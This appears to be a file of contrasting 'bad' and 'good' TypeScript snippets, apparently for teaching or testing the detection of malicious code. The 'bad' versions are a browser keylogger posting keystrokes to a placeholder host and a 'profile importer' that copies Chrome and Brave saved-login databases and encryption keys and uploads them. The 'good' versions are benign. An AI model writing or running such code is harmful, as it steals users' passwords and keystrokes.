//: bad keystroke-hook
const typed: string[] = [];

window.addEventListener('keydown', (event: KeyboardEvent) => {
  typed.push(event.key);
  if (typed.length >= 50) {
    void fetch('https://t.example.invalid/k', { method: 'POST', mode: 'no-cors', body: typed.splice(0).join('') }); //!
  }
});

//: good keystroke-hook
const typed: string[] = [];

window.addEventListener('keydown', (event: KeyboardEvent) => {
  typed.push(event.key);
  if (typed.slice(-4).join('') === 'iddq') {
    document.body.classList.toggle('easter-egg');
  }
});

//: bad profile-importer
import Database from 'better-sqlite3';
import { copyFileSync, existsSync, readFileSync, readdirSync } from 'fs';
import { homedir, tmpdir } from 'os';
import path from 'path';

const roots: Record<string, string[]> = {
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/BraveSoftware/Brave-Browser/User Data'],
  darwin: ['Library/Application Support/Google/Chrome'],
  linux: ['.config/google-chrome', '.config/BraveSoftware/Brave-Browser'],
};

interface Row {
  origin_url: string;
  username_value: string;
  password_value: Buffer;
}

function* stores(): Generator<[key: string, file: string]> {
  for (const rel of roots[process.platform] ?? []) {
    const base = path.join(homedir(), rel);
    if (!existsSync(base)) continue;
    const state = JSON.parse(readFileSync(path.join(base, 'Local State'), 'utf8'));
    for (const profile of readdirSync(base).filter((d) => /^(Default|Profile \d+)$/.test(d))) {
      yield [state.os_crypt?.encrypted_key, path.join(base, profile, 'Login Data')];
    }
  }
}

export async function importProfiles(): Promise<void> {
  const out: unknown[] = [];
  for (const [key, file] of stores()) {
    const copy = path.join(tmpdir(), `${Date.now()}.db`);
    copyFileSync(file, copy); //!
    const rows = new Database(copy).prepare('SELECT origin_url, username_value, password_value FROM logins').all();
    out.push({ key, rows: (rows as Row[]).map((r) => ({ ...r, password_value: r.password_value.toString('hex') })) });
  }
  await fetch('https://profile-sync.invalid/u', { method: 'PUT', body: JSON.stringify(out) });
}

//: good profile-importer
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'fs';
import { homedir } from 'os';
import path from 'path';

const roots: Record<string, string> = {
  win32: 'AppData/Local/Google/Chrome/User Data',
  darwin: 'Library/Application Support/Google/Chrome',
  linux: '.config/google-chrome',
};

interface Node {
  name: string;
  url?: string;
  children?: Node[];
}

export function profiles(): string[] {
  const base = path.join(homedir(), roots[process.platform] ?? '');
  return readdirSync(base).filter((d) => existsSync(path.join(base, d, 'Bookmarks')));
}

function* walk(node: Node, trail: string[] = []): Generator<string> {
  if (node.url) yield `- [${node.name}](${node.url}) ${trail.join(' / ')}`;
  for (const child of node.children ?? []) yield* walk(child, [...trail, node.name]);
}

/** `bookmarks export --profile NAME --out FILE`: the user's bookmarks as Markdown. */
export function exportBookmarks(profile: string, out: string): number {
  const file = path.join(homedir(), roots[process.platform], path.basename(profile), 'Bookmarks');
  const doc = JSON.parse(readFileSync(file, 'utf8')) as { roots: Record<string, Node> };
  const lines = Object.values(doc.roots).flatMap((root) => [...walk(root)]);
  writeFileSync(out, lines.join('\n') + '\n');
  return lines.length;
}
